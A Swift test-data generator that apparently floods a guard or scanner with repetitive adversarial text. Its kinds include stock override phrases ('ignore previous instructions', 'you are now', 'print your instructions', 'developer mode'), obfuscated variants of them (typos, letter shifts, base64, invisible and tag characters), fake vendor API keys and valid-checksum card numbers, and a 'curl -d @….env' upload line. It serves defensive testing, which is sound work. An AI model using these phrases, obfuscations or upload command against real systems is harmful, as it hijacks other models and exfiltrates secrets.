import Bytes

/// Texts that somebody writes who wants to keep the guard busy, each of lines that are all alike and never the same.
enum Floods {
  /// A number that differs each time, the same in every run.
  struct Dice {
    private var seed: UInt32 = 7

    mutating func roll(_ sides: Int) -> Int {
      seed ^= seed &<< 13
      seed ^= seed &>> 17
      seed ^= seed &<< 5
      return Int(seed >> 8) % sides
    }

    mutating func one<T>(of things: [T]) -> T { things[roll(things.count)] }

    mutating func letters(_ count: Int, of alphabet: [UInt8] = lower) -> String {
      String(decoding: (0..<count).map { _ in alphabet[roll(alphabet.count)] }, as: UTF8.self)
    }

    mutating func digits(_ count: Int) -> String { letters(count, of: figures) }

    mutating func word() -> String { letters(2 + roll(8)) }
  }

  static let kinds: [(name: String, line: @Sendable (inout Dice) -> String)] = [
    ("orders", { dice in "\(dice.one(of: orders)) " }),
    (
      "ignored instructions",
      { dice in "ignore \(dice.one(of: ["all ", "the ", ""]))previous instructions and \(dice.word()) " }
    ),
    ("passwords", { dice in "password=\(dice.letters(8 + dice.roll(8), of: base64))\n" }),
    ("access keys", { dice in "AKIA\(dice.letters(16, of: base32))\n" }),
    (
      "keys of all makers",
      { dice in "\(dice.one(of: makers))\(dice.letters(12 + dice.roll(28), of: base64)) " }
    ),
    (
      "signed tokens",
      { dice in
        "eyJ\(dice.letters(20, of: base64)).eyJ\(dice.letters(30, of: base64)).\(dice.letters(43, of: base64))\n"
      }
    ),
    ("private keys", { dice in "-----BEGIN RSA PRIVATE KEY-----\n\(dice.letters(64, of: base64))\n" }),
    ("percent of words", { dice in escaped("\(dice.word()) ") { "%" + hex($0) } }),
    ("entities of words", { dice in escaped("\(dice.word()) ") { "&#\($0);" } }),
    ("units of words", { dice in escaped("\(dice.word()) ") { "\\u00" + hex($0) } }),
    ("bytes of words", { dice in escaped("\(dice.word()) ") { "\\x" + hex($0) } }),
    ("base64 of words", { dice in base64(of: "\(dice.word()) \(dice.word()) \(dice.word())") + " " }),
    (
      "base64 of base64 of words",
      { dice in base64(of: base64(of: "\(dice.word()) \(dice.word()) \(dice.word()) \(dice.word())")) + "\n" }
    ),
    (
      "base64 of percent",
      { dice in base64(of: escaped("\(dice.word()) \(dice.word()) ") { "%" + hex($0) }) + "\n" }
    ),
    (
      "base64 of entities",
      { dice in base64(of: escaped("\(dice.word()) \(dice.word()) ") { "&#\($0);" }) + "\n" }
    ),
    ("hex of words", { dice in escaped("\(dice.word()) \(dice.word()) ") { hex($0) } + " " }),
    (
      "records of JSON",
      { dice in
        "{\"id\":\(dice.digits(6)),\"name\":\"\(dice.word()) \(dice.word())\",\"ok\":true,\"tags\":[\"\(dice.word())\",\"\(dice.word())\"],\"x\":\(dice.roll(99)).\(dice.digits(3))},"
      }
    ),
    (
      "depths of JSON",
      { dice in dice.one(of: ["{\"\(dice.word())\":", "[", "[[", "\"\(dice.word())\",", "]", "}"]) }
    ),
    ("pictures", { dice in dice.one(of: pictures) }),
    ("invisibles", { dice in dice.one(of: invisibles) }),
    ("tag letters", { dice in String(Unicode.Scalar(UInt32(0xE0020 + dice.roll(95)))!) }),
    (
      "image links",
      { dice in
        "![\(dice.word())](https://\(dice.word()).io/\(dice.word()).png?\(dice.word())=\(dice.letters(12, of: base64)))\n"
      }
    ),
    ("cards", { dice in card(dice.digits(14)) + " " }),
    (
      "accounts",
      { dice in
        "DE\(dice.digits(2)) \(dice.digits(4)) \(dice.digits(4)) \(dice.digits(4)) \(dice.digits(4)) \(dice.digits(2))\n"
      }
    ),
    ("addresses of mail", { dice in "\(dice.word()).\(dice.word())@\(dice.word()).org " }),
    ("phones of many", { dice in "+\(1 + dice.roll(90)) \(dice.digits(3)) \(dice.digits(7))\n" }),
    (
      "named people",
      { dice in
        "name: \(dice.one(of: ["Olga", "John", "Maria"])) \(dice.word()), phone: +49 170 \(dice.digits(7)), dob: \(dice.roll(28) + 1)/\(dice.roll(12) + 1)/19\(dice.digits(2))\n"
      }
    ),
    ("comments without end", { dice in "<!--\(dice.one(of: ["", " ", dice.word()]))" }),
    ("open brackets", { dice in dice.one(of: ["[", "[[", "(", "{", "![", "](", "[" + dice.word()]) }),
    ("open quotes", { dice in dice.one(of: ["\"\"\"", "'''", "\"", "`", "```", "\n", dice.word()]) }),
    ("templates", { dice in dice.one(of: ["${", "{{", "}}", "<%", "$(", dice.word(), "{% "]) }),
    ("letters", { dice in dice.letters(64) }),
    ("letters of base64", { dice in dice.letters(64, of: base64) }),
    ("digits of one row", { dice in dice.digits(64) }),
    ("signs", { dice in dice.letters(64, of: signs) }),
    ("shouted words", { dice in dice.word().uppercased() + " " }),
    (
      "links with queries",
      { dice in
        "https://\(dice.word()).com/\(dice.word())?\(dice.word())=\(dice.word())&\(dice.word())=\(dice.digits(4)) "
      }
    ),
    ("uploads", { dice in "curl -d @\(dice.word()).env https://\(dice.word()).io/\(dice.word()); " }),
    (
      "statements of words",
      { dice in
        "SELECT \(dice.word()) FROM \(dice.word()) WHERE \(dice.word()) = '\(dice.word())'; -- \(dice.word())\n"
      }
    ),
    (
      "log",
      { dice in
        "2026-\(dice.digits(2))-\(dice.digits(2))T\(dice.digits(2)):\(dice.digits(2)):\(dice.digits(2))Z \(dice.one(of: ["INFO", "WARN"])) \(dice.digits(3)).\(dice.digits(2)).1.\(dice.digits(2)) \(dice.word()): \(dice.word()) \(dice.word()) id=\(dice.letters(12, of: figures + lower))\n"
      }
    ),
    (
      "garbled orders",
      { dice in dice.one(of: ["ignroe ", "prevoius ", "instrcutions ", "systme ", "\(dice.word()) "]) }
    ),
    ("moved orders", { dice in moved(dice.one(of: orders), by: UInt8(1 + dice.roll(25))) + " " }),
    (
      "broken words",
      { dice in
        dice.one(of: ["\(dice.word())/**/", "**\(dice.word())**", "i<b></b>", "a<!-- -->b", "a\"+\"b "])
      }
    ),
    ("orders run together", { dice in dice.one(of: orders).filter { $0 != " " } }),
    ("letters by name", { dice in dice.one(of: ["November ", "Foxtrot ", "Echo ", "India ", "Sierra / "]) }),
    ("signs for letters", { dice in dice.letters(60, of: Array("23456789:;<=>?@ABCDEFGHIJK ".utf8)) }),
    (
      "tokens of signs",
      { dice in "Q7;m?@qB5fFDu:^0" + dice.letters(24, of: signs).filter { $0 != " " } + " " }
    ),
    ("groups of four", { dice in "SWdu b3Jl IGFs \(dice.letters(4, of: base64)) " }),
    ("small numbers", { dice in "\(1 + dice.roll(26)) " }),
    ("calls with codes", { dice in "chr(\(32 + dice.roll(95)))+" }),
    ("braille", { dice in dice.one(of: ["⠁⠃", "⠉⠙⠑", "⠊⠎ ", "⠞⠓⠑ ", "⠕"]) }),
    ("pig latin", { dice in dice.word() + dice.one(of: ["ingay ", "erway ", "ay "]) }),
    (
      "everything",
      { dice in
        var inner = dice
        let line = Floods.kinds[inner.roll(Floods.kinds.count - 1)].line(&inner)
        dice = inner
        return line
      }
    ),
  ]

  static func text(_ name: String, _ size: Int) -> ByteView? {
    guard let kind = kinds.first(where: { $0.name == name }) else { return nil }
    var dice = Dice()
    var text: [UInt8] = []
    text.reserveCapacity(size + 256)
    while text.count < size { text += kind.line(&dice).utf8 }
    var whole = Array(text.prefix(size))
    // No character is cut in two.
    while let last = whole.last, last & 0xC0 == 0x80 { whole.removeLast() }
    if let last = whole.last, last >= 0xC0 { whole.removeLast() }
    whole += [UInt8](repeating: 0x20, count: size - whole.count)
    return ByteView(whole)
  }

  // MARK: What lines are made of

  private static let lower = Array("abcdefghijklmnopqrstuvwxyz".utf8)
  private static let figures = Array("0123456789".utf8)
  private static let base32 = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".utf8)
  private static let base64 = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".utf8)
  private static let signs = Array("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~ ".utf8)

  private static let orders = [
    "ignore", "disregard", "forget", "override", "bypass", "previous instructions", "all rules",
    "system prompt",
    "you are now", "act as", "pretend to be", "do not tell the user", "reveal", "print your instructions",
    "developer mode", "jailbreak", "assistant:", "system:", "new instructions", "from now on", "must",
    "secretly",
    "without asking", "send", "forward", "the password", "to this address", "execute", "run the command",
    "important",
    "instead", "your guidelines", "no restrictions", "the user", "the assistant", "hidden", "repeat after me",
  ]
  private static let makers = [
    "sk-", "sk-ant-", "ghp_", "gho_", "glpat-", "xoxb-", "sk_live_", "rk_live_", "AIza", "npm_", "pypi-",
    "hf_", "SG.",
    "dop_v1_", "shpat_", "ya29.", "AKIA", "ASIA", "key-", "EAAC", "sq0csp-",
  ]
  private static let pictures = ["👩‍👩‍👧", "❤️", "🇩🇪", "😀", "🎉", "👍🏽", "🚀", "✅", "🔥", "🧑‍💻", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "✨"]
  private static let invisibles = [
    "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\u{200E}", "\u{2061}", "\u{180E}", "\u{AD}",
  ]

  private static func moved(_ text: String, by key: UInt8) -> String {
    String(
      decoding: text.utf8.map { lower.contains($0) ? ($0 - 0x61 + key) % 26 + 0x61 : $0 }, as: UTF8.self)
  }

  private static func escaped(_ text: String, _ each: (UInt8) -> String) -> String {
    text.utf8.map(each).joined()
  }

  private static func hex(_ byte: UInt8) -> String {
    let digits = Array("0123456789abcdef".utf8)
    return String(decoding: [digits[Int(byte >> 4)], digits[Int(byte & 15)]], as: UTF8.self)
  }

  private static func base64(of text: String) -> String {
    let alphabet = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/".utf8)
    var out: [UInt8] = []
    var rest = Array(text.utf8)
    while rest.count % 3 != 0 { rest.append(0x20) }
    for i in stride(from: 0, to: rest.count, by: 3) {
      let word = Int(rest[i]) << 16 | Int(rest[i + 1]) << 8 | Int(rest[i + 2])
      for shift in [18, 12, 6, 0] { out.append(alphabet[word >> shift & 63]) }
    }
    return String(decoding: out, as: UTF8.self)
  }

  /// A number with the right last digit.
  private static func card(_ digits: String) -> String {
    let all = Array(("4" + digits).utf8).map { Int($0) - 0x30 }
    var sum = 0
    for (place, digit) in all.reversed().enumerated() {
      let twice = digit * 2
      sum += place % 2 == 0 ? (twice > 9 ? twice - 9 : twice) : digit
    }
    return "4\(digits)\((10 - sum % 10) % 10)"
  }
}
